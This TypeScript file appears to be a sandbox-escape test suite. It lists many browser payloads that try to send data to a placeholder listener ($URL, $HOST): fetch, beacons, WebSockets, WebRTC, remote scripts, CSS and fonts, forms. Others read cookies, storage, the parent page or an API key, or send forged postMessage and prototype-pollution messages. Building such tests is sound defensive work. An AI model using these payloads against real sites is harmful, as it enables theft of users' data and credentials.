/**
 * One way in which an artifact may try to escape. `$URL` and `$HOST` stand for a listener of its own, `$ORIGIN` for the
 * product's page.
 */
export interface Attempt {
  kind: string;
  /** The body of an async function; it returns the data that it got hold of. */
  code?: string;
  /** Markup instead of a program: tried once in the page's own source, and once inserted by a program. */
  markup?: string;
  /** It navigates the frame away if it succeeds, so that it needs a page of its own. */
  isLeaving?: boolean;
}

const element = (tag: string, fields: string): string =>
  `const element = Object.assign(document.createElement("${tag}"), { ${fields} }); document.body.append(element);`;
const style = (css: string): string =>
  `const style = document.createElement("style"); style.textContent = \`${css}\`; document.head.append(style); document.body.insertAdjacentHTML("beforeend", "<i class=probe>probe</i>");`;
const worker = (code: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" }))`;
const submit = (fields: string): string =>
  `${element("form", `action: "$URL/form", ${fields}`)} element.innerHTML = "<input name=stolen value=1>"; element.submit();`;
const click = (fields: string): string => `${element("a", fields)} element.click();`;

const requests: readonly Attempt[] = [
  ["fetch", 'await fetch("$URL/x")'],
  ["fetch", 'await fetch("$URL/x", { mode: "no-cors", credentials: "include" })'],
  ["fetch", 'await fetch("$URL/x", { method: "POST", body: "stolen", keepalive: true, mode: "no-cors" })'],
  ["fetch", 'fetchLater("$URL/x", { activateAfter: 0 })'],
  ["fetch", 'await new Request("$URL/x").text; await fetch(new Request("$URL/x", { mode: "no-cors" }))'],
  ["old requests", 'const ask = new XMLHttpRequest(); ask.open("GET", "$URL/x"); ask.send()'],
  ["old requests", 'const ask = new XMLHttpRequest(); ask.open("GET", "$URL/x", false); ask.send()'],
  ["beacons", 'navigator.sendBeacon("$URL/x", "stolen")'],
  ["beacons", click('href: "#", ping: "$URL/x"')],
  ["sockets and streams", 'new WebSocket("ws://$HOST/x")'],
  ["sockets and streams", 'new EventSource("$URL/x")'],
  ["sockets and streams", 'new WebTransport("https://$HOST/x")'],
  [
    "connections between browsers",
    'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:$HOST" }] }); peer.createDataChannel("x"); await peer.setLocalDescription()',
  ],
  [
    "connections between browsers",
    'const peer = new webkitRTCPeerConnection({ iceServers: [{ urls: "turn:$HOST?transport=tcp", username: "a", credential: "b" }] }); peer.createDataChannel("x"); await peer.setLocalDescription()',
  ],
  [
    "connections between browsers",
    `${element("iframe", "")} const { RTCPeerConnection: Peer } = made.contentWindow; const peer = new Peer({ iceServers: [{ urls: "stun:$HOST" }] }); peer.createDataChannel("x"); await peer.setLocalDescription()`,
  ],
  [
    "connections between browsers",
    `${element("iframe", "srcdoc: \"<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:$HOST' }] }); peer.createDataChannel('x'); peer.setLocalDescription()</script>\"")}`,
  ],
  ["scripts", element("script", 'src: "$URL/x.js"')],
  ["scripts", element("script", 'type: "module", src: "$URL/x.js"')],
  ["scripts", 'await import("$URL/x.js")'],
  ["scripts", "await eval(\"import('$URL/x.js')\")"],
  ["scripts", element("script", 'type: "module", textContent: "import \'$URL/x.js\'"')],
  ["scripts", 'await new AudioContext().audioWorklet.addModule("$URL/x.js")'],

  ["workers", 'new Worker("$URL/x.js")'],
  ["workers", 'new Worker("$URL/x.js", { type: "module" })'],
  ["workers", 'new SharedWorker("$URL/x.js")'],
  ["workers", `new Worker(${worker('fetch("$URL/x", { mode: "no-cors" })')})`],
  ["workers", `new Worker(${worker('importScripts("$URL/x.js")')})`],
  ["workers", `new Worker(${worker('import("$URL/x.js")')})`],
  ["workers", `new Worker(${worker('new WebSocket("ws://$HOST/x")')})`],
  ["workers", `new SharedWorker(${worker('fetch("$URL/x", { mode: "no-cors" })')})`],
  ["workers", "new Worker(\"data:text/javascript,\" + encodeURIComponent(\"fetch('$URL/x', { mode: 'no-cors' })\"))"],
  ["images and media", element("img", 'src: "$URL/x.png"')],
  ["images and media", element("img", 'srcset: "$URL/x.png 2x"')],
  ["images and media", 'new Image().src = "$URL/x.png"'],
  ["images and media", element("video", 'src: "$URL/x.mp4", preload: "auto"')],
  ["images and media", element("video", 'poster: "$URL/x.png"')],
  ["images and media", 'new Audio("$URL/x.mp3").load()'],
  ["images and media", element("input", 'type: "image", src: "$URL/x.png"')],
  ["styles and fonts", style('@import "$URL/x.css";')],
  ["styles and fonts", style(".probe { background: url($URL/x.png) }")],
  ["styles and fonts", style(".probe { background: image-set(url($URL/x.png) 1x) }")],
  ["styles and fonts", style(".probe::before { content: url($URL/x.png) }")],
  [
    "styles and fonts",
    style("@font-face { font-family: probe; src: url($URL/x.woff2) } .probe { font-family: probe }"),
  ],
  ["styles and fonts", 'await new FontFace("other", "url($URL/x.woff2)").load()'],
  [
    "styles and fonts",
    style(".probe { mask: url($URL/x.svg#a); list-style-image: url($URL/y.png); display: list-item }"),
  ],
  [
    "styles and fonts",
    'document.body.insertAdjacentHTML("beforeend", "<p style=\\"border-image: url($URL/x.png) 1; border: 1px solid\\">x</p>")',
  ],
  ["frames and plug-ins", element("iframe", 'src: "$URL/x"')],
  ["frames and plug-ins", element("iframe", "srcdoc: \"<img src='$URL/x.png'>\"")],
  ["frames and plug-ins", element("object", 'data: "$URL/x"')],
  ["frames and plug-ins", element("embed", 'src: "$URL/x"')],
  [
    "links that fetch ahead",
    'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["$URL/x"], eagerness: "immediate" }] }) }))',
  ],
  [
    "links that fetch ahead",
    'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ source: "list", urls: ["$URL/x"], eagerness: "immediate" }] }) }))',
  ],
  [
    "sign-ins of the browser",
    'await navigator.credentials.get({ identity: { providers: [{ configURL: "$URL/x", clientId: "1" }] } })',
  ],
].map(([kind = "", code = ""]) => ({ kind, code }));

const markups: readonly Attempt[] = [
  ["scripts", '<script src="$URL/x.js"></script>'],
  ["images and media", '<img src="$URL/x.png">'],
  ["images and media", '<picture><source srcset="$URL/x.png"><img alt=""></picture>'],
  ["images and media", '<video poster="$URL/x.png"></video>'],
  ["images and media", '<audio src="$URL/x.mp3" preload="auto"></audio>'],
  ["images and media", '<svg><image href="$URL/x.png" width="9" height="9"/></svg>'],
  [
    "images and media",
    '<svg><filter id="f"><feImage href="$URL/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
  ],
  ["images and media", '<svg><use href="$URL/x.svg#a"/></svg>'],
  ["images and media", '<table background="$URL/x.png"><tr><td>x</td></tr></table>'],
  ["styles and fonts", '<link rel="stylesheet" href="$URL/x.css">'],
  ["styles and fonts", '<style>@import url("$URL/x.css");</style>'],
  ["styles and fonts", '<p style="background: url($URL/x.png)">x</p>'],
  ["links that fetch ahead", '<link rel="prefetch" href="$URL/x">'],
  ["links that fetch ahead", '<link rel="preload" as="script" href="$URL/x.js">'],
  ["links that fetch ahead", '<link rel="preload" as="image" href="$URL/x.png">'],
  ["links that fetch ahead", '<link rel="preload" as="fetch" href="$URL/x" crossorigin>'],
  ["links that fetch ahead", '<link rel="preload" as="font" href="$URL/x.woff2" crossorigin>'],
  ["links that fetch ahead", '<link rel="modulepreload" href="$URL/x.js">'],
  ["links that fetch ahead", '<link rel="preconnect" href="$URL">'],
  ["links that fetch ahead", '<link rel="preconnect" href="$URL" crossorigin>'],
  ["links that fetch ahead", '<link rel="prerender" href="$URL/x">'],
  ["links that fetch ahead", '<link rel="icon" href="$URL/x.ico">'],
  ["links that fetch ahead", '<link rel="manifest" href="$URL/x.json">'],
  ["frames and plug-ins", '<iframe src="$URL/x"></iframe>'],
  ["frames and plug-ins", '<object data="$URL/x" type="text/html"></object>'],
  ["frames and plug-ins", '<embed src="$URL/x" type="text/html">'],
  ["frames and plug-ins", '<div><template shadowrootmode="open"><iframe src="$URL/x"></iframe></template></div>'],
].map(([kind = "", markup = ""]) => ({ kind, markup }));

const leaving: readonly Attempt[] = [
  ["scripts", 'document.write("<script src=$URL/x.js><" + "/script>")'],
  ["leaving the frame", 'location.href = "$URL/x"'],
  ["leaving the frame", 'location.replace("$URL/x")'],
  ["leaving the frame", 'navigation.navigate("$URL/x")'],
  ["leaving the frame", click('href: "$URL/x"')],
  [
    "leaving the frame",
    'document.body.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=$URL/x\'>")',
  ],
  ["forms", submit('method: "post"')],
  ["forms", submit('method: "get"')],
  ["forms", submit('method: "post", target: "_top"')],
  ["forms", submit('method: "post", target: "_blank"')],
  ["the top of the page", 'top.location.href = "$URL/x"'],
  ["the top of the page", 'parent.location.replace("$URL/x")'],
  ["the top of the page", click('href: "$URL/x", target: "_top"')],
  ["the top of the page", click('href: "$URL/x", target: "_parent"')],
  ["the top of the page", 'open("$URL/x", "_top")'],
  ["the top of the page", 'open("javascript:document.title=\'stolen\'", "_parent")'],
  ["windows", 'open("$URL/x")'],
  ["windows", click('href: "$URL/x", target: "_blank"')],
  ["windows", click('href: "$URL/x", download: "x"')],
].map(([kind = "", code = ""]) => ({ kind, code, isLeaving: true }));

const markupsThatLeave: readonly Attempt[] = [
  { kind: "leaving the frame", markup: '<meta http-equiv="refresh" content="0;url=$URL/x">', isLeaving: true },
  { kind: "leaving the frame", markup: "<body onload=\"location='$URL/x'\"></body>", isLeaving: true },
];

/** Attempts to get hold of the page's own data. */
const holds: readonly Attempt[] = [
  ["the page itself", "return parent.document.title"],
  ["the page itself", "return top.document.body.innerText"],
  ["the page itself", "return parent.eval('document.title')"],
  ["the page itself", "return frameElement.ownerDocument.title"],
  ["the page itself", 'return parent.document.querySelector("article").innerText'],
  ["the page itself", 'document.domain = "127.0.0.1"; return parent.document.title'],
  ["the page itself", "parent.location = 'javascript:document.title=`stolen`'"],
  ["the page itself", "top.name = 'stolen'; return top.name"],
  ["the page itself", "return (await documentPictureInPicture.requestWindow()) && parent.document.title"],
  ["cookies", "delete document.cookie; return document.cookie"],
  ["cookies", "delete document.cookie; document.cookie = 'stolen=1'; return document.cookie"],
  ["cookies", "return JSON.stringify(await cookieStore.getAll())"],
  ["the page's storage", 'return localStorage.getItem("bench-secret")'],
  ["the page's storage", 'return parent.localStorage.getItem("bench-secret")'],
  ["the page's storage", 'return sessionStorage.getItem("bench-secret")'],
  [
    "the page's storage",
    'return JSON.stringify((await indexedDB.databases()).filter(({ name }) => name.startsWith("tutti")))',
  ],
  [
    "the page's storage",
    'return await new Promise((resolve, reject) => { const ask = indexedDB.open("tutti:v3"); ask.onsuccess = () => resolve([...ask.result.objectStoreNames].join()); ask.onerror = () => reject(ask.error) })',
  ],
  ["the page's storage", "return (await caches.keys()).join()"],
  ["the page's storage", 'return (await (await navigator.storage.getDirectory()).getFileHandle("bench-secret")).name'],
  ["the page's storage", "delete document.cookie; await document.requestStorageAccess(); return document.cookie"],
  [
    "words to and from the page",
    'return await new Promise((resolve) => { new BroadcastChannel("bench-secret").onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1500) })',
  ],
  [
    "words to and from the page",
    'return (await navigator.locks.query()).held.map(({ name }) => name).filter((name) => name.includes("bench-secret")).join()',
  ],
  [
    "words to and from the page",
    'return await new Promise((resolve) => { addEventListener("storage", ({ newValue }) => resolve(newValue)); setTimeout(resolve, 1500) })',
  ],
  ["service workers", 'return (await navigator.serviceWorker.register("$ORIGIN/service-worker.js")).scope'],
  ["service workers", "return (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope).join()"],
  ["the API as the person", 'return await (await fetch("$ORIGIN/api/v1/key", { credentials: "include" })).text()'],
  ["the API as the person", 'return await (await fetch("/api/v1/key", { credentials: "include" })).text()'],
  [
    "the API as the person",
    'return await new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.withCredentials = true; ask.onload = () => resolve(ask.responseText); ask.onerror = reject; ask.open("GET", "$ORIGIN/api/v1/key"); ask.send() })',
  ],
  ["what a person allows", "return await navigator.clipboard.readText()"],
  ["what a person allows", "return (await navigator.mediaDevices.getUserMedia({ audio: true })).id"],
  [
    "what a person allows",
    "return await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(({ coords }) => resolve(String(coords.latitude)), reject))",
  ],
  [
    "what a person allows",
    "const permission = await Notification.requestPermission(); return permission === 'granted' ? permission : undefined",
  ],
].map(([kind = "", code = ""]) => ({ kind, code }));

/** Messages that lie to the page, which must not act on them. The page's state shows whether it did. */
const lies: readonly Attempt[] = [
  '{ type: "navigate", url: "$URL/x" }',
  '{ type: "open", href: "$URL/x" }',
  '{ type: "storage-set-item", key: "../bench-secret", value: "stolen" }',
  '{ type: "storage-remove-item", key: "bench-secret" }',
  '{ type: "runtime-error", error: "<img src=$URL/x.png>" }',
  '{ type: "console", entries: [{ level: "log", text: "<img src=$URL/x.png>" }] }',
  '{ type: "__proto__", __proto__: { isAdmin: true } }',
  'JSON.parse(\'{"type":"ready","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}\')',
].map((message) => ({
  kind: "words to and from the page",
  code: `parent.postMessage(${message}, "*"); top.postMessage(${message}, "*")`,
}));

/** Every attempt; those with markup are listed twice. */
export const attempts: readonly Attempt[] = [
  ...requests,
  ...markups,
  ...leaving,
  ...markupsThatLeave,
  ...holds,
  ...lies,
].flatMap((attempt) =>
  attempt.markup === undefined || attempt.isLeaving === true
    ? [attempt]
    : [
        attempt,
        {
          kind: attempt.kind,
          code: `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(attempt.markup)})`,
        },
      ],
);
